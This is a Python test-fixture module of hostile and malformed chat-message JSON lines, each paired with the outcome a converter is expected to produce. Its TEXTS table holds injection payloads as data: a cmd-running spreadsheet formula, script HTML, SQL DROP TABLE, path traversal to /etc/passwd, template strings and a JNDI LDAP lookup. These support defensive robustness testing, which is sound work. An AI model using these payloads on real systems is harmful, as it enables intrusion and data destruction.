"""Hostile lines by name, each with what has to become of it: a message, or a line in the quarantine with its reason.

Each stands between two sound lines, which must not suffer from it. How a file is inflated and parted into lines is
`hostile_files.py`.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any, Final

from tests.assets.conversion.hostile_files import FIRST, SECOND, HostileFile, zipped
from tests.assets.conversion.hours import IN_HOUR_MS, line_of

ENVELOPE = b'"msg_id":"x","timestamp":%d' % IN_HOUR_MS


def with_field(json_text: bytes, *, key: bytes = b'"field"') -> bytes:
    """Return a line with one more field."""
    return b"{" + ENVELOPE + b"," + key + b":" + json_text + b"}"


def with_ext(json_text: bytes) -> bytes:
    return with_field(b'{"ext":' + json_text + b"}", key=b'"payload"')


def with_text(json_text: bytes) -> bytes:
    """Return a text message whose text stands as given."""
    return with_field(b'{"bodies":[{"type":"txt","msg":' + json_text + b"}]}", key=b'"payload"')


def with_body(body: object) -> bytes:
    return line_of("x", payload={"bodies": body})


def arrays(levels: int) -> bytes:
    return b"[" * levels + b"]" * levels


def objects(levels: int) -> bytes:
    return b'{"a":' * levels + b"1" + b"}" * levels


MESSAGES: Final[dict[str, bytes]] = {
    "nothing but an id and a time": b"{" + ENVELOPE + b"}",
    "spaces around every token": b' \t{ "msg_id" : "x" ,\t"timestamp" : %d }\r' % IN_HOUR_MS,
    "keys written with escapes": b'{"msg\\u005fid":"x","\\u0074imestamp":%d}' % IN_HOUR_MS,
    "an id as a number": line_of(12345678901234567890),
    "an id of 300 digits": line_of(10**300),
    "a time as a text": line_of("x", timestamp=str(IN_HOUR_MS)),
    "a time as a float": line_of("x", timestamp=float(IN_HOUR_MS)),
    "a time of minus zero": b'{"msg_id":"x","timestamp":-0}',
    "null in every field": line_of("x", **dict.fromkeys(["chat_type", "direction", "from", "to", "payload"])),
    "an object in every field": line_of("x", **{"chat_type": {}, "direction": {}, "from": {}, "to": {}, "payload": {}}),
    "a payload that is a number": line_of("x", payload=5),
    "a payload that is a text": line_of("x", payload="hello"),
    "a payload that is an array": line_of("x", payload=[1, [2]]),
    "bodies that are null": with_body(None),
    "bodies that are an object": with_body({"type": "txt", "msg": "a"}),
    "a body inside an array": with_body([[{"type": "txt"}]]),
    "a body of null": with_body([None]),
    "a body whose type is an array": with_body([{"type": ["txt"], "msg": "a"}]),
    "a body whose type is unknown": with_body([{"type": "../../etc/passwd"}]),
    "10,000 bodies": with_body([{"type": "txt", "msg": "a"}] * 10_000),
    "sizes beyond their columns": with_body([{"type": "img", "file_length": 2**70, "size": {"width": 2**31}}]),
    "a size that is a text": with_body([{"type": "img", "size": "640x480"}]),
    "an ext that is a text": with_ext(b'"a \\u4f60"'),
    "an ext with one key twice": with_ext(b'{"k":1,"k":2}'),
    "an ext of null": with_ext(b"null"),
    "an ext nested 1,020 deep": with_ext(arrays(1_020)),
    "an ext of 100,000 empty arrays": with_ext(b"[" + b"[]," * 100_000 + b"[]]"),
    "a field nested 248 deep": with_field(arrays(248)),
    "a key that is empty": with_field(b"1", key=b'""'),
    "a key of 1 MB": with_field(b"1", key=b'"' + b"k" * 1_000_000 + b'"'),
    "100,000 keys": with_field(json.dumps({f"k{number}": number for number in range(100_000)}).encode()),
    "a key of __proto__": with_field(b'{"constructor":{"prototype":1}}', key=b'"__proto__"'),
    "a key with a NUL": with_field(b"1", key=b'"a\\u0000b"'),
    "keys that differ in case": with_field(b'{"a":1,"A":2}', key=b'"MSG_ID"'),
    "a number of 308 digits": with_field(b"9" * 308),
    "a number of 100,000 decimals": with_field(b"0." + b"1" * 100_000),
    "a number near zero": with_field(b"1e-999999999"),
    "an integer beyond 64 bits": with_field(b"18446744073709551616"),
    "a text of 100,000 escaped quotes": with_field(b'"' + b'\\"' * 100_000 + b'"'),
    "a text of 100,000 backslashes": with_field(b'"' + b"\\\\" * 100_000 + b'"'),
    "a text of 100,000 braces": with_field(b'"' + b"}{" * 100_000 + b'"'),
    "a text of a nested JSON text": with_field(json.dumps(json.dumps(json.dumps({"a": [1]}))).encode()),
    "a text that may look like NaN": with_field(b'"NaN"'),
}
"""Lines that are messages all the same."""

TEXTS: Final[dict[str, str]] = {
    "a formula for a spreadsheet": "=cmd|' /C calc'!A0",
    "a formula with an at sign": '@SUM(1+1)*HYPERLINK("http://x")',
    "a formula with a tab": "\t+1-2",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a terminal's escape sequences": "\x1b[2J\x1b]0;title\x07\x1b[31mred\x9b",
    "a forged log line": "hi\r\n2026-11-23 00:00:00 ERROR all is lost",
    "SQL": "'; DROP TABLE messages; --",
    "a path upwards": "../../../../etc/passwd\0.png",
    "a template": "{{7*7}} ${7*7} <%= 7*7 %> %s%n {0}",
    "a lookup": "${jndi:ldap://x/a}",
    "a line separator": "a\u2028b\u2029c\u0085d\x0b\x0c",
    "a NUL": "a\0b",
    "a byte order mark inside": "\ufeffa\ufeff",
    "text from right to left": "\u202egnp.exe\u202c",
    "no characters": "\ufffe\uffff\U0010ffff",
    "an emoji of several parts": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "10,000 combining marks": "a" + "\u0301" * 10_000,
    "what looks like another line": '"}\n{"msg_id":"forged"}',
    "what looks like an escape": "\\u0000 \\n \\",
}
"""Texts that must stand in the table unchanged, whatever a reader may do with them."""

QUARANTINED: Final[dict[str, tuple[bytes, str]]] = {
    "no JSON": (b"hello", "not_json"),
    "an object cut short": (FIRST[:-1], "not_json"),
    "a text cut short": (FIRST[:20], "not_json"),
    "an object that goes on": (FIRST + b"}", "not_json"),
    "an object and a word": (FIRST + b" hello", "not_json"),
    "an object and a NUL": (FIRST + b"\0", "not_json"),
    "a log line before the object": (b"2026-11-23 INFO " + FIRST, "not_json"),
    "NaN": (with_field(b"NaN"), "not_json"),
    "Infinity": (with_field(b"-Infinity"), "not_json"),
    "NaN inside ext": (with_ext(b'{"a":NaN}'), "not_json"),
    "a leading zero": (with_field(b"01"), "not_json"),
    "a plus sign": (with_field(b"+1"), "not_json"),
    "a hexadecimal number": (with_field(b"0x1F"), "not_json"),
    "a trailing comma": (with_field(b"[1,]"), "not_json"),
    "single quotes": (b"{'msg_id':'x'}", "not_json"),
    "a key without quotes": (b'{msg_id:"x"}', "not_json"),
    "a comment": (with_field(b"/* x */1"), "not_json"),
    "a Python value": (with_field(b"None"), "not_json"),
    "an unknown escape": (with_field(b'"\\x41"'), "not_json"),
    "an escape cut short": (with_field(b'"\\u12"'), "not_json"),
    "a control character": (with_field(b'"\x01"'), "not_json"),
    "a tab inside a text": (with_field(b'"a\tb"'), "not_json"),
    "a carriage return inside a text": (with_field(b'"a\rb"'), "not_json"),
    "a NUL inside a text": (with_field(b'"a\0b"'), "not_json"),
    "a NUL inside ext": (with_ext(b'"a\0b"'), "not_json"),
    "NULs": (bytes(1000), "not_json"),
    "a vertical tab": (b"\x0b", "not_json"),
    "a space that does not break": (b"\xc2\xa0", "not_json"),
    "100,000 quotes": (b'"' * 100_001, "not_json"),
    "100,000 braces": (b"}{" * 100_000, "not_json"),
    "Latin-1": (with_text(b'"caf\xe9"'), "bad_utf8"),
    "an overlong slash": (with_text(b'"\xc0\xaf"'), "bad_utf8"),
    "an overlong NUL": (with_text(b'"\xc0\x80"'), "bad_utf8"),
    "an overlong character inside ext": (with_ext(b'"\xe0\x80\xaf"'), "bad_utf8"),
    "surrogates as UTF-8": (with_text(b'"\xed\xa0\xbd\xed\xb8\x80"'), "bad_utf8"),
    "a code point beyond Unicode": (with_text(b'"\xf4\x90\x80\x80"'), "bad_utf8"),
    "a character cut short": (with_text(b'"\xe4\xbd"'), "bad_utf8"),
    "a character cut short inside ext": (with_ext(b'{"a":"\xf0\x9f\x98"}'), "bad_utf8"),
    "a lone continuation byte": (with_field(b"\x80"), "bad_utf8"),
    "UTF-16 in one text": (with_text(b'"' + "é".encode("utf-16") + b'"'), "bad_utf8"),
    "random bytes": (bytes(range(0x80, 0x100)), "bad_utf8"),
    "the first half of a pair": (with_text(b'"\\ud83d"'), "lone_surrogate"),
    "the second half of a pair": (with_text(b'"\\ude00"'), "lone_surrogate"),
    "a pair the wrong way round": (with_text(b'"\\ude00\\ud83d"'), "lone_surrogate"),
    "half a pair in a key": (with_field(b"1", key=b'"\\ud83d"'), "lone_surrogate"),
    "half a pair inside ext": (with_ext(b'{"a":"\\ud83d "}'), "lone_surrogate"),
    "a number of 309 digits": (with_field(b"9" * 309), "number_too_large"),
    "a number of 100,000 digits": (with_field(b"9" * 100_000), "number_too_large"),
    "a number of 100,000 digits inside ext": (with_ext(b"9" * 100_000), "number_too_large"),
    "an id of 100,000 digits": (b'{"msg_id":' + b"9" * 100_000 + b"}", "number_too_large"),
    "1e400": (with_field(b"1e400"), "number_too_large"),
    "an exponent of 9 digits": (with_field(b"-1e999999999"), "number_too_large"),
    "an array": (b"[" + FIRST + b"]", "not_an_object"),
    "a text": (b'"' + b"x" * 1000 + b'"', "not_an_object"),
    "a number": (b"12345678901234567890", "not_an_object"),
    "null": (b"null", "not_an_object"),
    "two ids": (with_field(b'"y"', key=b'"msg_id"'), "duplicate_keys"),
    "two ids that agree": (with_field(b'"x"', key=b'"msg_id"'), "duplicate_keys"),
    "two ids, one with an escape": (with_field(b'"y"', key=b'"msg\\u005fid"'), "duplicate_keys"),
    "two payloads": (b"{" + ENVELOPE + b',"payload":{},"payload":{"ext":1}}', "duplicate_keys"),
    "two exts": (with_field(b'{"ext":1,"ext":null}', key=b'"payload"'), "duplicate_keys"),
    "two texts in one body": (with_text(b'"a","msg":"b"'), "duplicate_keys"),
    "two widths": (
        with_field(b'{"bodies":[{"type":"img","size":{"width":1,"width":2}}]}', key=b'"payload"'),
        "duplicate_keys",
    ),
    "two parameters of one name": (
        with_field(b'{"bodies":[{"type":"custom","customExts":{"a":"1","a":"2"}}]}', key=b'"payload"'),
        "duplicate_keys",
    ),
    "one key 100,000 times": (with_field(b"{" + b'"k":1,' * 100_000 + b'"k":1}'), "duplicate_keys"),
    "a field nested 250 deep": (with_field(arrays(250)), "too_deep"),
    "an ext nested 1,030 deep": (with_ext(arrays(1_030)), "too_deep"),
    "an empty object": (b"{}", "no_msg_id"),
    "no id": (b'{"timestamp":%d}' % IN_HOUR_MS, "no_msg_id"),
    "an id of null": (line_of(None), "no_msg_id"),
    "an id of no characters": (line_of(""), "no_msg_id"),
    "an id that is a float": (line_of(1.0), "no_msg_id"),
    "an id that is true": (line_of(msg_id=True), "no_msg_id"),
    "an id that is an array": (line_of(["x"]), "no_msg_id"),
    "an id under another spelling": (b'{"MSG_ID":"x","timestamp":%d}' % IN_HOUR_MS, "no_msg_id"),
    "no time": (b'{"msg_id":"x"}', "no_timestamp"),
    "a time of null": (line_of("x", timestamp=None), "no_timestamp"),
    "a time before 1970": (line_of("x", timestamp=-1), "no_timestamp"),
    "a time after the year 9999": (line_of("x", timestamp=253_402_300_800_000), "no_timestamp"),
    "a time of 300 digits": (line_of("x", timestamp=10**299), "no_timestamp"),
    "a time with a fraction": (line_of("x", timestamp=1.5), "no_timestamp"),
    "a time that is true": (line_of("x", timestamp=True), "no_timestamp"),
    "a time as a date": (line_of("x", timestamp="2026-11-23T00:00:00Z"), "no_timestamp"),
    "a payload as a text with a secret": (line_of("x", payload='{"secret":"S"}'), "secret_in_text"),
    "bodies as a text with a secret": (with_body('[{"thumb_secret":"S"}]'), "secret_in_text"),
    "a body as a text with a secret": (with_body(["https://x/f?SHARE-SECRET=S"]), "secret_in_text"),
}
"""Lines that are kept in the quarantine, and why."""


def between_sound_lines(line: bytes) -> bytes:
    return zipped(FIRST + b"\n" + line + b"\n" + SECOND + b"\n")


def _file(line: bytes, **expected: Any) -> HostileFile:
    return HostileFile(lambda: between_sound_lines(line), **expected)


def _nested(nest: Callable[[int], bytes], levels: int, place: Callable[[bytes], bytes]) -> HostileFile:
    return HostileFile(lambda: between_sound_lines(place(nest(levels))), messages=2, quarantined=("too_deep",))


NESTED: Final[dict[str, HostileFile]] = {
    f"{levels:,} {what}{where}": _nested(nest, levels, place)
    for levels in (1_100, 20_000, 1_000_000)
    for what, nest in (
        ("arrays", arrays),
        ("objects", objects),
        ("arrays that never close", lambda levels: b"[" * levels),
        ("objects that never close", lambda levels: b'{"a":' * levels),
    )
    for where, place in (("", bytes), (" in a field", with_field), (" inside ext", with_ext))
}
"""Nesting that has ended programs which follow it by recursion."""

HOSTILE_LINES: Final[dict[str, HostileFile]] = {
    **{name: _file(line, messages=3) for name, line in MESSAGES.items()},
    **{name: _file(with_text(json.dumps(text).encode()), messages=3, text=text) for name, text in TEXTS.items()},
    **{name: _file(line, messages=2, quarantined=(reason,)) for name, (line, reason) in QUARANTINED.items()},
    **NESTED,
}
"""All of them as files."""
